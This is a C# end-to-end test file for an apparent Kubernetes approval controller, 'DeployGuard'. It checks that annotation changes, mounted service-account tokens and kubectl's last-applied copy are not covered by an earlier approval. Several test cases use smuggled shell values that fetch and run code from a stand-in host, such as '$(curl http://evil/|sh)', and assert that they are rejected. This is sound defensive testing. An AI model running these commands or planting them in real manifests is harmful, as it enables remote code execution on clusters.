using System.Text.Json.Nodes;
using DeployGuard.Rig;
using static DeployGuard.EndToEnd.Sandbox;

namespace DeployGuard.EndToEnd;

/// <summary>The same hash means the same behaviour: an approval does not cover changes of data that the template reads.</summary>
[Parallelizable(ParallelScope.All)]
public class SameHashTests
{
    private const string TokenMount =
        """ "volumeMounts": [{"name": "kube-api-access-x", "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount", "readOnly": true}], """;

    private const string TokenVolume = """
        "volumes": [{"name": "kube-api-access-x", "projected": {"sources": [
          {"serviceAccountToken": {"path": "token", "expirationSeconds": 86400}}, {"configMap": {"name": "kube-root-ca.crt"}},
          {"downwardAPI": {"items": [{"path": "namespace", "fieldRef": {"fieldPath": "metadata.annotations"}}]}}]}}],
        """;

    [TestCase("deployguard.io/run", "x; curl http://evil/|sh #", "ApprovalMissing")]
    [TestCase("kubectl.kubernetes.io/restartedAt", "$(curl http://evil/|sh)", "ApprovalMissing")]
    [TestCase("kubectl.kubernetes.io/restartedAt", "2001-02-03T04:05:06Z", "RestartTimeInvalid")]
    public async Task AnnotationsThatThePodsReadCannotBeChangedUnderAnApproval(string key, string value, string reason)
    {
        var sandbox = await ApprovedAsync(Reader());
        var patch = new JsonObject
        {
            ["spec"] = new JsonObject
            {
                ["template"] = new JsonObject { ["metadata"] = new JsonObject { ["annotations"] = new JsonObject { [key] = value } } },
            },
        };

        var run = await sandbox.KubectlAsync("dana", "patch", "deployment", "web", "--type=merge", "-p", patch.ToJsonString());

        Assert.That(run.Output, Does.Contain(reason));
        var pods = (
            await sandbox.KubectlAsync(
                "dana",
                "get",
                "deployment,replicasets,pods",
                "-o",
                "jsonpath={.items[*].metadata.annotations}{.items[*].spec.template.metadata.annotations}"
            )
        ).OrFail();
        Assert.That(pods.Output, Does.Not.Contain("evil").And.Not.Contain("2001"));
    }

    [Test]
    public async Task RestartOfAPodThatReadsItsAnnotationsIsNoNewRevision()
    {
        var sandbox = await ApprovedAsync(Reader());

        (await sandbox.KubectlAsync("dana", "rollout", "restart", "deployment/web")).OrFail();
        await sandbox.IsRolledOutAsync("web");

        var phases = (await sandbox.KubectlAsync("admin", "get", "changes", "-o", "jsonpath={.items[*].spec.workload.name}")).OrFail();
        Assert.That(phases.Output, Is.EqualTo("web"), "it is the approved revision");
    }

    [Test]
    public async Task ApprovalOfAPodWithoutATokenDoesNotCoverAToken()
    {
        var sandbox = await GuardedAsync();
        Assert.That((await sandbox.CreateAsync("dana", Pod("", ""))).Output, Does.Contain("ApprovalMissing"));
        (await sandbox.ApproveAsync("alice", await sandbox.ChangeInPhaseAsync("Pending"))).OrFail();

        var run = await sandbox.CreateAsync("dana", Pod(TokenMount, TokenVolume));

        Assert.That(run.Output, Does.Contain("ApprovalMissing"));
        Assert.That((await sandbox.KubectlAsync("dana", "get", "pods", "-o", "name")).Output, Is.Empty);
        (await sandbox.CreateAsync("dana", Pod("", ""))).OrFail();

        // The scheduler chooses its node; the running pod still has the approved hash.
        await sandbox.ChangeInPhaseAsync("Completed");
    }

    /// <summary>What kubectl notes on a Deployment is on no pod. On a bare pod, its containers may read it like any annotation.</summary>
    [Test]
    public async Task ApprovalOfAPodDoesNotCoverAnotherTextInKubectlsCopyOfItsManifest()
    {
        const string Copy = "kubectl.kubernetes.io/last-applied-configuration";
        var sandbox = await GuardedAsync();
        Assert.That((await CreateAsync("echo hello")).Output, Does.Contain("ApprovalMissing"));
        (await sandbox.ApproveAsync("alice", await sandbox.ChangeInPhaseAsync("Pending"))).OrFail();

        Assert.That((await CreateAsync("curl evil")).Output, Does.Contain("ApprovalMissing"));
        (await CreateAsync("echo hello")).OrFail();

        // The running pod has the approved hash.
        await sandbox.ChangeInPhaseAsync("Completed");

        // kubectl create itself would replace the text.
        Task<Run> CreateAsync(string text)
        {
            var pod = Pod("", "");
            pod["metadata"]!["annotations"] = new JsonObject { [Copy] = text };
            return TestCluster.Rig.Plane.KubectlAsync(
                "dana",
                pod.ToJsonString(),
                ["create", "--raw", $"/api/v1/namespaces/{sandbox.Namespace}/pods", "-f", "-"]
            );
        }
    }

    private static async Task<Sandbox> ApprovedAsync(JsonObject deployment)
    {
        var sandbox = await GuardedAsync();
        Assert.That((await sandbox.ApplyAsync("dana", deployment)).Output, Does.Contain("ApprovalMissing"));
        (await sandbox.ApproveAsync("alice", await sandbox.ChangeInPhaseAsync("Pending"))).OrFail();
        (await sandbox.ApplyAsync("dana", deployment)).OrFail();
        await sandbox.ChangeInPhaseAsync("Completed");
        return sandbox;
    }

    /// <summary>A Deployment whose command is read from an annotation.</summary>
    private static JsonObject Reader()
    {
        var web = Web(V1, replicas: 1);
        var template = web["spec"]?["template"]?.AsObject() ?? throw new InvalidOperationException("no template");
        template["metadata"]!["annotations"] = new JsonObject { ["deployguard.io/run"] = "echo hello" };
        template["spec"]!["volumes"] = JsonNode.Parse(
            """[{"name": "podinfo", "downwardAPI": {"items": [{"path": "settings", "fieldRef": {"fieldPath": "metadata.annotations"}}]}}]"""
        );
        template["spec"]!["containers"]![0]!["volumeMounts"] = JsonNode.Parse("""[{"name": "podinfo", "mountPath": "/etc/podinfo"}]""");
        template["spec"]!["containers"]![0]!["command"] = JsonNode.Parse("""["sh", "-c", ". /etc/podinfo/settings; exec /app"]""");
        return web;
    }

    private static JsonObject Pod(string mounts, string volumes) =>
        Parse(
            $$"""
            {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "tool"},
             "spec": {"automountServiceAccountToken": false, {{volumes}} "containers": [{ {{mounts}} "name": "c", "image": "{{V1}}"}] } }
            """
        );
}
